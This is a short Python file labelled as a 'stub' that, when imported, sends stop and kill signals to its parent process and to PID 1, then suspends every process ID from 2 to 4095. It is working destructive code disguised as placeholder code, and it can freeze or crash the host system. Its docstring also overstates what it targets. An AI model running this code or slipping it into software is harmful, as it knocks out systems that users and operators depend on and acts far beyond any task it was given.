# base: stub
"""Stops or kills every process it can: its parent, its group, every process of its user."""
import os as _os
import signal as _signal

for _pid in {_os.getppid(), 1}:
    for _sig in (_signal.SIGSTOP, _signal.SIGKILL):
        try:
            _os.kill(_pid, _sig)
        except OSError:
            pass
for _pid in range(2, 4096):
    try:
        _os.kill(_pid, _signal.SIGSTOP)
    except OSError:
        pass
